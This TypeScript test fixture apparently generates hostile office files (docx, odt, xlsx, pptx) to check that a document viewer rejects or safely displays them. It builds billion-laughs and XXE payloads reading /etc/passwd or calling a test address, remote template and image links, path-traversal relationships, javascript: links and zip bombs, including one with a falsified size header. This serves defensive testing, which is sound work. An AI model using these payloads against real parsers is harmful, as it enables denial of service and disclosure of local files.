import { deflateRawSync } from "node:zlib";
import type { HostileFile } from "./hostile.ts";
import { docx, odt, paragraph, rels, word, xlsx, zip } from "./parts.ts";

const laughs = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">${Array.from("bcdefghij", (name, index) => `<!ENTITY ${name} "${`&${"abcdefghi"[index]};`.repeat(10)}">`).join("")}]>`;
const deep = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth);

export async function hostileOffice(address: string): Promise<HostileFile[]> {
  const files: HostileFile[] = [
    ...(await bombs()),
    {
      name: "entities.docx",
      bytes: await docx("", {
        "word/document.xml": `${laughs}<w:document xmlns:w="${word}"><w:body>&j;</w:body></w:document>`,
      }),
      shown: false,
      says: /expands itself/,
    },
    {
      name: "entities.odt",
      bytes: await odt("", { "content.xml": `${laughs}<x>&j;</x>` }),
      shown: false,
      says: /expands itself/,
    },
    {
      name: "entities.xlsx",
      bytes: await xlsx("", { "xl/sharedStrings.xml": `${laughs}<sst><si><t>&j;</t></si></sst>` }),
      shown: false,
      says: /expands itself/,
    },
    {
      name: "external-entity.docx",
      bytes: await docx("", {
        "word/document.xml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${address}/entity"><!ENTITY f SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${word}"><w:body>${paragraph("&e;&f;")}</w:body></w:document>`,
      }),
      shown: false,
      says: /expands itself/,
    },
    {
      name: "external-doctype.docx",
      bytes: await docx("", {
        "word/document.xml": `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${address}/x.dtd"><w:document xmlns:w="${word}"><w:body>${paragraph("Hello")}</w:body></w:document>`,
      }),
      shown: "either",
    },
    {
      name: "deep.docx",
      bytes: await docx(deep("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 50_000)),
      shown: false,
      says: /nested/,
    },
    {
      name: "deep.odt",
      bytes: await odt(deep("<text:section>", "</text:section>", 100_000)),
      shown: false,
      says: /nested/,
    },
    { name: "deep.xlsx", bytes: await xlsx(deep("<row>", "</row>", 100_000)), shown: false, says: /nested/ },
    {
      name: "template-and-image.docx",
      bytes: await docx(
        `${paragraph("Hello")}<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
        {
          "word/_rels/document.xml.rels": rels([{ type: "image", target: `${address}/pixel.png`, external: true }]),
          "word/settings.xml": `<w:settings xmlns:w="${word}"/>`,
          "word/_rels/settings.xml.rels": rels([
            { type: "attachedTemplate", target: `${address}/evil.dotm`, external: true },
          ]),
        },
      ),
      shown: true,
      says: /outside itself/,
    },
    {
      name: "macros.docm",
      bytes: await docx(paragraph("Hello"), { "word/vbaProject.bin": "macro" }),
      shown: true,
      says: /macros/,
    },
    {
      name: "macros.odt",
      bytes: await odt("<text:p>Hello</text:p>", { "Basic/Standard/Module1.xml": "<x/>" }),
      shown: true,
      says: /macros/,
    },
    {
      name: "embedded.docx",
      bytes: await docx(paragraph("Hello"), { "word/embeddings/oleObject1.bin": "MZ" }),
      shown: true,
      says: /embedded/,
    },
    {
      name: "climbing.docx",
      bytes: await docx(paragraph("Hello"), {
        "word/_rels/document.xml.rels": rels([{ type: "image", target: "../../../../etc/passwd" }]),
      }),
      shown: "either",
    },
    {
      name: "script-link.docx",
      bytes: await docx(`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>`, {
        "word/_rels/document.xml.rels": rels([{ type: "hyperlink", target: "javascript:alert(1)", external: true }]),
      }),
      shown: true,
    },
    { name: "markup-in-text.docx", bytes: await docx(paragraph("&lt;script&gt;alert(1)&lt;/script&gt;")), shown: true },
    { name: "no-document.docx", bytes: await zip({ "hello.txt": "x" }), shown: false, says: /not what/ },
    {
      name: "hollow.docx",
      bytes: Buffer.concat([Buffer.from("PK\u0005\u0006", "latin1"), Buffer.alloc(18)]),
      shown: false,
    },
    {
      name: "half-xml.docx",
      bytes: await docx("", { "word/document.xml": `<w:document xmlns:w="${word}"><w:body><w:p>` }),
      shown: "either",
    },
    { name: "locked.docx", bytes: compoundFile("EncryptedPackage"), shown: false, says: /password/ },
    { name: "locked.xlsx", bytes: compoundFile("EncryptedPackage"), shown: false, says: /password/ },
    { name: "hollow.doc", bytes: compoundFile("WordDocument"), shown: false, says: /LibreOffice/ },
    { name: "unknown-stream.doc", bytes: compoundFile("Something"), shown: false, says: /damaged/ },
    { name: "locked-parts.docx", bytes: setEncryptedFlag(await docx(paragraph("x"))), shown: false, says: /password/ },
    {
      name: "locked.odt",
      bytes: await odt("x", { "META-INF/manifest.xml": "<manifest:encryption-data/>" }),
      shown: false,
      says: /password/,
    },
    {
      name: "remote-image.odt",
      bytes: await odt(
        `<text:p>Hello<draw:frame><draw:image xlink:href="${address}/pixel.png"/></draw:frame></text:p>`,
      ),
      shown: true,
    },
    {
      name: "far-cells.xlsx",
      bytes: await xlsx(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c><c r="A9"><v>1e999</v></c><c t="s"><v>99999</v></c></row>',
      ),
      shown: true,
    },
    {
      name: "dates.xlsx",
      bytes: await xlsx(
        '<row><c t="s"><v>0</v></c><c s="1"><v>46085</v></c><c s="2"><v>0.5</v></c><c s="3"><v>1.5</v></c></row>',
      ),
      shown: true,
    },
    {
      name: "million-rows.xlsx",
      bytes: await xlsx("<row><c><v>1</v></c></row>".repeat(1_000_000)),
      shown: true,
      says: /first 5,000 rows/,
    },
    {
      name: "sheet-missing.xlsx",
      bytes: await xlsx("", { "xl/_rels/workbook.xml.rels": rels([{ type: "worksheet", target: "gone.xml" }]) }),
      shown: "either",
    },
    {
      name: "no-slides.pptx",
      bytes: await zip({ "ppt/presentation.xml": "<p:presentation/>" }),
      shown: false,
      says: /damaged/,
    },
    { name: "long.docx", bytes: await docx(paragraph("word ".repeat(50)).repeat(20_000)), shown: "either" },
    {
      name: "wide-table.docx",
      bytes: await docx(
        `<w:tbl><w:tr>${`<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${paragraph("x")}</w:tc>`.repeat(200)}</w:tr></w:tbl>`,
      ),
      shown: "either",
    },
  ];
  return files;
}

async function bombs(): Promise<HostileFile[]> {
  const large = /larger than can be shown|too much memory|takes too long|damaged/;
  const zeros = Buffer.alloc(300 * 1024 * 1024, "a");
  const bomb = await zip({ "word/document.xml": zeros });
  const many = await zip(Object.fromEntries(Array.from({ length: 30_000 }, (_, index) => [`word/${index}.xml`, "x"])));
  return [
    { name: "bomb.docx", bytes: bomb, shown: false, says: large },
    {
      name: "bomb.odt",
      bytes: await zip({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": zeros }),
      shown: false,
      says: large,
    },
    {
      name: "bomb.xlsx",
      bytes: await zip({ "xl/workbook.xml": "<workbook/>", "xl/sharedStrings.xml": zeros }),
      shown: false,
      says: large,
    },
    { name: "many-parts.docx", bytes: many, shown: false, says: large },
    { name: "lying-size.docx", bytes: lyingSize(), shown: false, says: /damaged/ },
    { name: "nested.docx", bytes: await zip({ "word/document.xml": bomb, "inner.docx": bomb }), shown: false },
    {
      name: "spaces.docx",
      bytes: await docx(paragraph("a ".repeat(20 * 1024 * 1024))),
      shown: false,
      says: large,
    },
  ];
}

/** A part that announces ten bytes and unpacks to a hundred million. */
function lyingSize(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(100_000_000));
  const name = Buffer.from("word/document.xml");
  const local = Buffer.alloc(30);
  local.write("PK\x03\x04", "latin1");
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(10, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.write("PK\x01\x02", "latin1");
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(10, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + packed.length, 16);
  return Buffer.concat([local, name, packed, central, name, end]);
}

/** The flag of a password, on every entry of the directory. */
function setEncryptedFlag(file: Buffer): Buffer {
  for (let at = file.indexOf("PK\x01\x02", 0, "latin1"); at !== -1; at = file.indexOf("PK\x01\x02", at + 4, "latin1")) {
    file.writeUInt16LE(file.readUInt16LE(at + 8) | 1, at + 8);
  }
  return file;
}

/** As much of an OLE compound file as tells what it is. */
function compoundFile(streamName: string): Buffer {
  const file = Buffer.alloc(4096);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
  file.writeUInt16LE(0xfffe, 28);
  file.writeUInt16LE(9, 30);
  file.write(streamName, 1024, "utf16le");
  return file;
}
